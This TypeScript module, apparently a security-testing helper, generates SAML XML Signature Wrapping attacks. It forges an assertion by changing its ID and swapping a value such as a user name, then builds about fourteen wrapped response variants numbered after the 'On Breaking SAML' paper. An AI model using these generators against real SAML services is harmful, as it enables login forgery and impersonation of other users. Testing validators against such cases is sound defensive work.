/** Parts of a signed response, for attacks that put them together differently. */
export interface ResponseParts {
  /** The response up to its first assertion. */
  head: string
  /** The signed assertion. */
  assertion: string
  signature: string
  /** The assertion without its signature. */
  unsigned: string
}

export function partsOf(xml: string): ResponseParts {
  const at = xml.indexOf('<saml:Assertion')
  const assertion = xml.slice(at, xml.indexOf('</saml:Assertion>') + '</saml:Assertion>'.length)
  const signature = /<ds:Signature[\s\S]*<\/ds:Signature>/.exec(assertion)?.[0] ?? ''
  return { head: xml.slice(0, at), assertion, signature, unsigned: assertion.replace(signature, '') }
}

const end = '</samlp:Response>'

/** The assertion as an attacker would like it to be. */
export function forge(assertion: string, from: string, to: string, id = '_forged'): string {
  return assertion.replace(/ ID="[^"]*"/, ` ID="${id}"`).replaceAll(from, to)
}

/**
 * Signature wrapping: the signed element stays in the document, and another one is where the service looks. Numbered as in "On
 * Breaking SAML" (Somorovsky et al., 2012).
 */
export function wrappings(xml: string, from: string, to: string): [name: string, xml: string][] {
  const { head, assertion, signature, unsigned } = partsOf(xml)
  const forged = forge(unsigned, from, to)
  const sameId = unsigned.replaceAll(from, to)
  const inside = (outer: string, inner: string) =>
    outer.replace('</saml:Assertion>', `${inner}</saml:Assertion>`)
  const wrapped = (inner: string) =>
    signature.replace('</ds:Signature>', `<ds:Object>${inner}</ds:Object></ds:Signature>`)
  const afterIssuer = (outer: string, inner: string) =>
    outer.replace('</saml:Issuer>', `</saml:Issuer>${inner}`)
  return [
    ['3: before the signed one', `${head}${forged}${assertion}${end}`],
    ['3: after the signed one', `${head}${assertion}${forged}${end}`],
    ['3: with the same ID', `${head}${sameId}${assertion}${end}`],
    ['4: around the signed one', `${head}${inside(forged, assertion)}${end}`],
    ['5: with its signature', `${head}${afterIssuer(forged, signature)}${unsigned}${end}`],
    ['6: with its signature and itself in it', `${head}${afterIssuer(forged, wrapped(unsigned))}${end}`],
    ['8: in an object of the signature', `${head}${afterIssuer(sameId, wrapped(unsigned))}${end}`],
    [
      'the signed one in the status',
      `${head.replace('</samlp:Status>', `<samlp:StatusDetail>${assertion}</samlp:StatusDetail></samlp:Status>`)}${forged}${end}`,
    ],
    ['in another response', `${head}${forged}<samlp:Response ID="_r">${assertion}${end}${end}`],
    [
      'around the response',
      `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_r" Version="2.0"><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>${forged}${xml}${end}`,
    ],
  ]
}

/** Wrapping of a response whose own signature covers everything. */
export function responseWrappings(xml: string, from: string, to: string): [name: string, xml: string][] {
  const at = xml.indexOf('<ds:Signature')
  const signature = xml.slice(at, xml.indexOf('</ds:Signature>') + '</ds:Signature>'.length)
  const unsigned = xml.replace(signature, '')
  const withId = (id: string) => unsigned.replace(/ ID="[^"]*"/, ` ID="${id}"`).replaceAll(from, to)
  const afterIssuer = (outer: string, inner: string) =>
    outer.replace('</saml:Issuer>', `</saml:Issuer>${inner}`)
  const wrapped = signature.replace('</ds:Signature>', `<ds:Object>${unsigned}</ds:Object></ds:Signature>`)
  return [
    ['1: the response in its signature', afterIssuer(withId('_forged'), wrapped)],
    ['2: the response beside its signature', afterIssuer(withId('_forged'), `${unsigned}${signature}`)],
    ['the signature of another response', afterIssuer(withId('_forged'), signature)],
    ['changed after signing', xml.replaceAll(from, to)],
  ]
}
